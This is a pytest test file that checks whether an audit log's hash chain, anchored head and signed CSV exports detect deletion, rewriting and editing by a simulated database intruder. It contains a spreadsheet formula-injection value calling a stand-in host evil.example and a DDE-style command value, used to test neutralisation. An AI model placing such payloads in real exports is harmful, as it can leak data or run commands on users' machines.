"""The audit log under attack (issue 22): cut, emptied, dropped, rewritten, exported."""

from __future__ import annotations

import csv
import functools
import io
import json
import os
import re
import sqlite3
import stat
import uuid

import pandas as pd
import pytest
import sqlalchemy as sa

from tests.services import POSTGIS_URL, missing
from tests.sessions import store_users
from twin import audit_anchor, auditchain, i18n, trust
from twin.errors import ConfigError, PermissionDeniedError, ValidationError
from twin.schema import AUDIT
from twin.store import open_store
from twin.trust import User

ADMIN = User("admin", "admin")
ADMIN_URL = os.environ.get("TWIN_TEST_POSTGIS_ADMIN_URL",
                           "postgresql+psycopg://postgres@127.0.0.1:5432/twin")


def _fill(store, n: int, who: str = "official1") -> None:
    for i in range(n):
        store.append_audit(who, "residents.read", f"building:B{i}", {"rows": i}, "10.0.0.8")


def _intrude(store, *statements: str) -> None:
    """Run SQL behind the store's back, as someone holding the database (its owner) would."""
    if store.url.startswith("postgresql"):
        with store.engine.begin() as conn:
            if "DROP TABLE" not in statements[0]:
                conn.execute(sa.text("ALTER TABLE twin_audit DISABLE TRIGGER USER"))
            for statement in statements:
                conn.execute(sa.text(statement))
    else:
        with sqlite3.connect(store.path) as conn:
            for statement in statements:
                conn.execute(statement)


def _reopen(store):
    """Open the store again (PostGIS: a second store object; the fixture drops the schema)."""
    if store.url.startswith("postgresql"):
        return open_store(POSTGIS_URL, schema=store.schema)
    store.close()
    return open_store(store.path)


def _rewrite(store, rows: pd.DataFrame, hasher) -> None:
    """Replace the stored rows by *rows* with their hashes recomputed by *hasher*."""
    prev = auditchain.GENESIS_HASH if rows["seq"].iloc[0] == 1 else None
    for row in rows.to_dict("records"):
        if prev is not None:
            row["prev_hash"] = prev
        row["hash"] = hasher(row["prev_hash"], row)
        prev = row["hash"]
        _intrude(store, f"DELETE FROM twin_audit WHERE seq = {int(row['seq'])}")
        store.put_rows(AUDIT, pd.DataFrame([row]))


# -- what the chain and its anchored head detect -------------------------------------------------


def test_an_intact_log_verifies_and_is_anchored(store):
    _fill(store, 5)
    check = trust.verify_audit_chain(store)
    assert (check.ok, check.rows, check.anchored_seq, check.rows_read) == (True, 5, 5, 5)
    head = audit_anchor.load(store).head
    assert (head.seq, head.hash) == (5, store.read_audit()["hash"].iloc[-1])
    assert store.verify_audit() is None


def test_tail_deletion_is_detected_and_its_seqs_are_never_reused(store):
    _fill(store, 10)
    _intrude(store, "DELETE FROM twin_audit WHERE seq >= 8")
    check = trust.verify_audit_chain(store)
    assert (check.ok, check.first_bad_seq, check.reason) == (False, 8, "truncated")
    assert "8–10" in check.message
    row = store.append_audit("admin", "view", "x")
    assert row["seq"] == 11  # not 8: the next seq follows the anchored head
    assert store.read_audit()["seq"].tolist() == [*range(1, 8), 11]
    assert store.verify_audit() == 8  # the gap stays visible in the chain for good
    assert trust.verify_audit_chain(store).reason == "missing"


def test_deleting_every_row_is_detected(store):
    _fill(store, 6)
    _intrude(store, "DELETE FROM twin_audit")
    check = trust.verify_audit_chain(store)
    assert (check.ok, check.first_bad_seq, check.reason) == (False, 1, "truncated")
    assert store.append_audit("admin", "view", "x")["seq"] == 7


def test_dropping_the_table_is_detected_after_reopening(store):
    _fill(store, 4)
    _intrude(store, "DROP TABLE twin_audit")
    store = _reopen(store)
    try:
        assert store.read_audit().empty  # the store made the table again
        assert store.verify_audit() == 1
        assert store.append_audit("admin", "view", "x")["seq"] == 5
        assert not trust.verify_audit_chain(store).ok
    finally:
        store.close()


@pytest.mark.parametrize("how", ["sha256", "another key"])
def test_rows_rewritten_with_recomputed_hashes_are_detected(store, how):
    _fill(store, 8)
    assert trust.verify_audit_chain(store).ok
    guessed = b"a key the intruder guessed, 32+ characters long"
    hasher = {"sha256": auditchain.legacy_hash,
              "another key": lambda p, r: auditchain.row_hash(p, r, guessed)}[how]
    log = store.read_audit()
    tail = log.loc[log["seq"] >= 3].assign(actor="nobody")
    _rewrite(store, tail, hasher)
    assert (store.read_audit()["actor"] == "nobody").sum() == 6
    check = trust.verify_audit_chain(store)
    assert (check.ok, check.first_bad_seq, check.reason) == (False, 3, "changed")


def test_the_whole_log_rewritten_as_if_before_the_key_is_caught_by_the_anchor(store):
    _fill(store, 5)
    _rewrite(store, store.read_audit().assign(actor="nobody"), auditchain.legacy_hash)
    check = trust.verify_audit_chain(store)  # a valid unkeyed chain, but not the anchored one
    assert (check.ok, check.first_bad_seq) == (False, 5)
    assert "anchored head" in check.message


def test_an_altered_anchor_or_another_key_is_reported(store, monkeypatch):
    _fill(store, 3)
    path = audit_anchor.anchor_path(store)
    data = json.loads(path.read_text())
    data["head"]["seq"] = 2  # an intruder winding the head back
    path.write_text(json.dumps(data))
    check = trust.verify_audit_chain(store)
    assert (check.ok, check.reason) == (False, "anchor") and "altered" in check.message
    assert store.append_audit("admin", "view", "x")["seq"] == 4
    assert json.loads(path.read_text())["head"]["seq"] == 2  # kept as evidence, not rewritten
    monkeypatch.setenv("TWIN_AUDIT_KEY", "k" * 40)
    assert "another audit key" in trust.verify_audit_chain(store).message


def test_rows_written_before_the_chain_was_keyed_stay_verifiable(store):
    """A log written with plain sha256 (before this change) verifies as it is, never rewritten."""
    at = pd.Timestamp("2026-01-05 08:00", tz="UTC")
    prev, rows = auditchain.GENESIS_HASH, []
    for seq in (1, 2, 3):
        row = {"seq": seq, "at": at, "actor": "old", "action": "login", "target": "user:old",
               "detail": '{"n": 1}', "origin": "web", "prev_hash": prev}
        row["hash"] = prev = auditchain.legacy_hash(prev, row)
        rows.append(row)
    store.put_rows(AUDIT, pd.DataFrame(rows))
    _fill(store, 2)
    check = trust.verify_audit_chain(store)
    assert (check.ok, check.rows, check.legacy_rows) == (True, 5, 3)
    assert "3 written before the chain was keyed" in check.message
    assert store.read_audit()["hash"].tolist()[:3] == [r["hash"] for r in rows]
    # an intruder rewriting an old row recomputes the old hashes: the first keyed row's HMAC
    # covers the last old hash, so the chain breaks there
    _rewrite(store, store.read_audit().iloc[:3].assign(actor="nobody"), auditchain.legacy_hash)
    assert store.verify_audit() == 4


# -- incremental checks ---------------------------------------------------------------------------


def _bulk_log(store, n: int) -> None:
    """Write *n* keyed rows at once, as a long-running twin would have (without n commits)."""
    frame = _bulk_rows(n, auditchain.audit_key())
    store.put_rows(AUDIT, frame.assign(at=pd.to_datetime(frame["at"], utc=True)))


@functools.cache
def _bulk_rows(n: int, key: bytes) -> pd.DataFrame:
    start = pd.Timestamp("2026-01-01", tz="UTC")
    stamps = pd.date_range(start, periods=n, freq="s").map(pd.Timestamp.isoformat)
    prev, rows = auditchain.GENESIS_HASH, []
    for seq, at in zip(range(1, n + 1), stamps, strict=True):
        row = {"seq": seq, "at": at, "actor": f"u{seq % 7}",
               "action": "residents.read", "target": f"building:B{seq % 50}",
               "detail": '{"rows": 3}', "origin": "web:10.0.0.8", "prev_hash": prev}
        row["hash"] = prev = auditchain.row_hash(prev, row, key)
        rows.append(row)
    return pd.DataFrame(rows)


def test_a_page_visit_checks_only_the_rows_since_the_last_verified_200000(store, monkeypatch):
    _bulk_log(store, 200_000)
    full = trust.verify_audit_chain(store)
    assert (full.ok, full.rows, full.rows_read, full.incremental) == (True, 200_000, 200_000,
                                                                      False)
    _fill(store, 5)
    read = []
    reader = store.read_audit
    monkeypatch.setattr(store, "read_audit",
                        lambda since=None: read.append(len(frame := reader(since))) or frame)
    visit = trust.verify_audit_chain(store, incremental=True)
    assert (visit.ok, visit.rows, visit.incremental) == (True, 200_005, True)
    assert read == [6] and visit.rows_read == 6  # the checkpoint row and the five new ones
    again = trust.verify_audit_chain(store, incremental=True)
    assert read == [6, 1] and again.ok and again.rows == 200_005
    _intrude(store, "DELETE FROM twin_audit WHERE seq > 200002")
    cut = trust.verify_audit_chain(store, incremental=True)
    assert (cut.ok, cut.first_bad_seq, cut.reason) == (False, 200_003, "truncated")


def test_an_incremental_check_repeats_an_earlier_failure_until_a_full_check_passes(store):
    _fill(store, 6)
    assert trust.verify_audit_chain(store).ok  # checkpoint at row 6
    _intrude(store, "UPDATE twin_audit SET actor = 'nobody' WHERE seq = 2")
    assert trust.verify_audit_chain(store, incremental=True).ok  # row 2 is before the checkpoint
    assert trust.verify_audit_chain(store).first_bad_seq == 2  # the full check finds it
    visit = trust.verify_audit_chain(store, incremental=True)
    assert (visit.ok, visit.first_bad_seq, visit.reason) == (False, 2, "earlier")


def test_an_incremental_check_without_a_checkpoint_is_a_full_one(store):
    _fill(store, 4)
    _intrude(store, "UPDATE twin_audit SET target = 'x' WHERE seq = 1")
    check = trust.verify_audit_chain(store, incremental=True)
    assert (check.ok, check.first_bad_seq, check.incremental, check.rows_read) == (False, 1,
                                                                                  False, 4)


# -- exports --------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(exported: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(exported.decode("utf-8-sig"))))


@pytest.fixture
def admin(store):
    """The admin who exports, stored first (the library acts only for stored users)."""
    (user,) = store_users(store, ADMIN)
    return user


def test_a_formula_user_name_is_neutralised_in_the_export_and_still_verifies(store, admin):
    with pytest.raises(trust.LoginError):
        trust.authenticate(store, FORMULA, "whatever1", origin="+cmd|' /C calc'!A0")
    store.append_audit("@SUM(1+1)", "view", "-2+3", {"note": "=1+1"}, "\tx")
    exported = trust.export_audit_csv(store, admin)
    cells = [c for row in _cells(exported)[1:] for c in row]
    assert "'" + FORMULA[:64] in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert "'\tx" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    check = trust.verify_audit_csv(exported)
    assert check.ok and check.rows == len(store.read_audit()) - 1  # all but the export's row


def test_a_truncated_or_edited_export_fails(store, admin):
    _fill(store, 6)
    exported = trust.export_audit_csv(store, admin)
    assert trust.verify_audit_csv(exported).ok
    lines = exported.decode("utf-8-sig").splitlines(keepends=True)
    assert len(lines) == 1 + 1 + 6 + 1  # header, the admin's creation, rows, signed head
    cut = "".join(lines[:5])  # the last rows and the head cut off
    assert "cut short" in trust.verify_audit_csv(cut).message
    cut_keep_head = "".join(lines[:5] + lines[-1:])  # the head put back on a shorter file
    check = trust.verify_audit_csv(cut_keep_head)
    assert (check.ok, check.reason) == (False, "export") and "cut off" in check.message
    head = json.loads(list(csv.reader([lines[-1]]))[0][5])
    forged = {**head, "rows": 4}
    edited = "".join(lines[:5]) + lines[-1].replace(
        json.dumps(head, sort_keys=True).replace('"', '""'),
        json.dumps(forged, sort_keys=True).replace('"', '""'))
    assert "edited" in trust.verify_audit_csv(edited).message
    changed = exported.decode("utf-8-sig").replace("building:B3", "building:B9")
    assert trust.verify_audit_csv(changed).first_bad_seq == 5


def test_a_filtered_export_verifies_row_by_row(store, admin):
    _fill(store, 4, who="gw1")
    _fill(store, 3, who="official2")
    exported = trust.export_audit_csv(store, admin, actor="gw1")
    check = trust.verify_audit_csv(exported)
    assert check.ok and check.rows == 4 and "filtered" in check.message
    lines = exported.decode("utf-8-sig").splitlines(keepends=True)
    assert not trust.verify_audit_csv("".join(lines[:2] + lines[3:])).ok  # one row removed


# -- the key --------------------------------------------------------------------------------------


def test_the_key_file_is_made_once_0600_outside_the_store(store, tmp_path, monkeypatch):
    monkeypatch.setenv("TWIN_AUDIT_KEY_FILE", str(tmp_path / "keys" / "audit.key"))
    _fill(store, 2)
    key_file = tmp_path / "keys" / "audit.key"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    key = key_file.read_text().strip()
    assert len(key) == 64 and auditchain.audit_key() == key.encode()
    if hasattr(store, "path"):
        assert key.encode() not in store.path.read_bytes()
    key_file.chmod(0o644)
    with pytest.raises(ConfigError, match="chmod 600"):
        store.append_audit("admin", "view", "x")


def test_a_short_key_is_refused(monkeypatch):
    monkeypatch.setenv("TWIN_AUDIT_KEY", "short")
    with pytest.raises(ConfigError, match="at least 32"):
        auditchain.audit_key()


# -- who may change the table on PostGIS ----------------------------------------------------------


@pytest.fixture
def admin_engine(postgis_url):
    engine = sa.create_engine(ADMIN_URL, poolclass=sa.pool.NullPool)
    try:
        with engine.connect() as conn:
            able = conn.execute(sa.text("SELECT rolsuper OR rolcreaterole FROM pg_roles "
                                        "WHERE rolname = current_user")).scalar()
    except sa.exc.DBAPIError as exc:
        engine.dispose()
        missing("a PostgreSQL admin role", f"{str(exc).splitlines()[0]}; set "
                "TWIN_TEST_POSTGIS_ADMIN_URL to a role that may create roles")
    if not able:
        engine.dispose()
        missing("a PostgreSQL admin role", "the role of TWIN_TEST_POSTGIS_ADMIN_URL may not "
                "create roles")
    yield engine
    engine.dispose()


def test_the_test_role_owns_its_tables_so_the_triggers_alone_do_not_bind_it(postgis_url):
    from twin.store.audit_roles import audit_privileges

    with open_store(postgis_url, schema=f"t_{uuid.uuid4().hex[:10]}",
                    drop_schema_on_close=True) as store:
        with store.engine.begin() as conn:
            seen = audit_privileges(conn, "twin", store.schema)
        assert not seen["superuser"] and seen["owns_table"] and seen["may_drop"]
        _fill(store, 2)
        for statement in ("UPDATE twin_audit SET actor = 'x'", "DELETE FROM twin_audit",
                          "TRUNCATE twin_audit"):
            with pytest.raises(sa.exc.DBAPIError, match="append-only"), \
                    store.engine.begin() as conn:
                conn.execute(sa.text(statement))
        assert store.read_audit()["seq"].tolist() == [1, 2]


def test_the_app_role_may_only_insert_and_select_once_the_table_is_protected(admin_engine,
                                                                           postgis_url):
    from twin.store.audit_roles import audit_privileges, protect_audit_table

    tag = uuid.uuid4().hex[:8]
    app, owner, schema = f"twin_app_{tag}", f"twin_audit_owner_{tag}", f"t_roles_{tag}"
    with admin_engine.begin() as conn:
        conn.execute(sa.text(f"CREATE ROLE {app} LOGIN PASSWORD 'app-{tag}'"))
        conn.execute(sa.text(f"CREATE SCHEMA {schema} AUTHORIZATION {app}"))
    app_url = sa.make_url(postgis_url).set(username=app, password=f"app-{tag}")
    app_url = app_url.render_as_string(hide_password=False)
    try:
        with open_store(app_url, schema=schema) as store:
            _fill(store, 3)
            with pytest.raises(ConfigError, match="superuser"):
                protect_audit_table(ADMIN_URL, "postgres", schema=schema, owner_role=owner)
            report = protect_audit_table(ADMIN_URL, app, schema=schema, owner_role=owner)
            assert report == {"SELECT": True, "INSERT": True, "UPDATE": False, "DELETE": False,
                              "TRUNCATE": False, "owns_table": False, "owns_schema": False,
                              "superuser": False, "may_drop": False, "owns_database": False}
            assert protect_audit_table(ADMIN_URL, app, schema=schema,
                                       owner_role=owner) == report  # again: no change
            for statement in ("UPDATE twin_audit SET actor = 'x'", "DELETE FROM twin_audit",
                              "TRUNCATE twin_audit", "DROP TABLE twin_audit",
                              "ALTER TABLE twin_audit DISABLE TRIGGER USER",
                              "DROP FUNCTION twin_audit_append_only() CASCADE",
                              f"DROP SCHEMA {schema} CASCADE"):
                with pytest.raises(sa.exc.ProgrammingError,
                                   match="permission denied|must be owner"), \
                        store.engine.begin() as conn:
                    conn.execute(sa.text(statement))
            assert store.append_audit("gw1", "view", "x")["seq"] == 4  # INSERT still works
        with open_store(app_url, schema=schema) as again:  # and the app still opens it
            assert trust.verify_audit_chain(again).ok and again.verify_audit() is None
            with again.engine.begin() as conn:
                assert not audit_privileges(conn, app, schema)["may_drop"]
    finally:
        with admin_engine.begin() as conn:
            conn.execute(sa.text(f"DROP SCHEMA IF EXISTS {schema} CASCADE"))
            for role in (app, owner):
                conn.execute(sa.text(f"DROP OWNED BY {role}"))
                conn.execute(sa.text(f"DROP ROLE {role}"))


# -- the audit page -------------------------------------------------------------------------------


def _audit_page(url: str):
    from streamlit.testing.v1 import AppTest

    from tests.browser import ROOT
    from tests.sessions import sign_in_as

    at = AppTest.from_file(str(ROOT / "ui" / "audit_page.py"), default_timeout=60)
    return sign_in_as(at, ADMIN, url).run()


def test_the_audit_page_checks_incrementally_and_shows_a_cut_log(tmp_path, monkeypatch):
    from tests.browser import write_small_twin

    path = write_small_twin(tmp_path / "page.gpkg")
    monkeypatch.setenv("TWIN_DATABASE_URL", str(path))
    with open_store(path) as store:
        _fill(store, 30)
        assert trust.verify_audit_chain(store).ok  # the checkpoint a visit starts from
    at = _audit_page(str(path))
    assert not at.exception and at.success
    caption = " ".join(c.value for c in at.caption)
    found = re.search(r"(\d+) rows read.*row (\d+)", caption) or re.search(
        r"读取 (\d+) 行.*第 (\d+) 行", caption)
    read, anchored = map(int, found.group(1, 2))
    assert anchored > 30 and read < 5  # the checkpoint row and what the sign-in added, not 30+
    with sqlite3.connect(path) as conn:
        last = conn.execute("SELECT max(seq) FROM twin_audit").fetchone()[0]
        conn.execute("DELETE FROM twin_audit WHERE seq > ?", (last - 3,))
    at = _audit_page(str(path))
    # signing in appended a row after the cut: the gap before it is named
    gone = {i18n.catalog(lang)["audit.reason_missing"] for lang in i18n.LANGUAGES}
    assert not at.success and any(text in at.error[0].value for text in gone)
    assert str(last - 2) in at.error[0].value


# -- the command ----------------------------------------------------------------------------------


def test_the_audit_command_verifies_and_resets_the_anchor(tmp_path, capsys):
    from twin.cli.audit import main

    path = tmp_path / "cli.gpkg"
    with open_store(path) as store:
        _fill(store, 5)
    assert main(["--store", str(path), "verify"]) == 0
    assert "intact: 5 rows" in capsys.readouterr().out
    with sqlite3.connect(path) as conn:
        conn.execute("DELETE FROM twin_audit WHERE seq > 3")
    assert main(["--store", str(path), "verify", "--incremental"]) == 1
    assert "cut off" in capsys.readouterr().out
    assert main(["--store", str(path), "reset-anchor", "--actor", "keeper"]) == 0
    # a reset accepts the log as it is now (the row continues from row 3) and records the
    # head it set aside
    assert "audit row 4" in capsys.readouterr().out
    with open_store(path) as store:
        last = store.read_audit().iloc[-1]
        assert (last["actor"], last["action"]) == ("keeper", "audit.anchor_reset")
        assert json.loads(last["detail"])["previous_head"]["seq"] == 5
    assert main(["--store", str(path), "verify"]) == 0
    assert main(["protect", "--admin-url", "postgresql+psycopg://nobody@127.0.0.1:1/x",
                 "--app-role", "twin"]) == 1  # a server that does not answer: a failure


# -- reading a page at a time ---------------------------------------------------------------------


def test_the_log_is_read_a_page_at_a_time_filtered_in_the_database(store):
    admin, official = store_users(store, ADMIN, User("official1", "official"))
    _fill(store, 25)
    for i in range(5):
        store.append_audit("dispatcher9", "case.dispatch", f"case:C{i}", {"to": "100%_x"}, "web")
    every = store.read_audit()
    pages, before = [], None
    while True:
        page = trust.audit_page(store, admin, actor="official1", limit=10, before=before)
        pages.append(page.rows["seq"].tolist())
        assert page.total == 25
        if page.next_before is None:
            break
        before = page.next_before
    want = every.loc[every["actor"] == "official1", "seq"].tolist()[::-1]
    assert [len(p) for p in pages] == [10, 10, 5] and sum(pages, []) == want  # newest first

    # substrings as typed: LIKE's wildcards are plain characters here
    assert trust.audit_page(store, admin, action="case.").total == 5
    assert trust.audit_page(store, admin, action="case%").total == 0
    assert trust.audit_page(store, admin, target="B1").total == 11  # B1, B10 … B19
    assert store.search_audit(contains={"detail": "100%_x"})[1] == 5
    assert trust.read_audit(store, admin, actor="dispatcher9")["seq"].is_monotonic_increasing
    with pytest.raises(PermissionDeniedError):
        trust.audit_page(store, official)
    with pytest.raises(ValidationError, match="searched in"):
        store.search_audit(contains={"hash": "ab"})


def test_the_audit_page_pages_through_the_log_in_local_time(tmp_path, monkeypatch):
    from tests.browser import write_small_twin

    path = write_small_twin(tmp_path / "page.gpkg")
    monkeypatch.setenv("TWIN_DATABASE_URL", str(path))
    with open_store(path) as store:
        _fill(store, 230)
        newest = store.read_audit()["at"].max()
    at = _audit_page(str(path))
    assert not at.exception
    table = at.dataframe[0].value
    assert len(table) == 100
    local = newest.tz_convert("Asia/Shanghai").strftime("%Y-%m-%d %H:%M:%S")
    assert local in table.iloc[:, 1].tolist()  # shown in the community's time, not UTC
    seqs = [table.iloc[:, 0].tolist()]
    at.button(key="audit_older").click().run()
    seqs.append(at.dataframe[0].value.iloc[:, 0].tolist())
    at.button(key="audit_older").click().run()
    seqs.append(at.dataframe[0].value.iloc[:, 0].tolist())
    assert at.button(key="audit_older").disabled  # the oldest row is on this page
    assert [len(s) for s in seqs[:2]] == [100, 100] and seqs[2][-1] == 1
    assert seqs[0][0] > seqs[0][-1] > seqs[1][0] > seqs[1][-1] > seqs[2][0]
    at.button(key="audit_newer").click().run()
    assert at.dataframe[0].value.iloc[:, 0].tolist() == seqs[1]
    at.text_input(key="audit_action").input("residents.read").run()  # a filter starts anew
    filtered = at.dataframe[0].value
    assert set(filtered.iloc[:, 3]) == {"residents.read"} and len(filtered) == 100
    assert any("230" in c.value for c in at.caption)  # rows 1–100 of 230
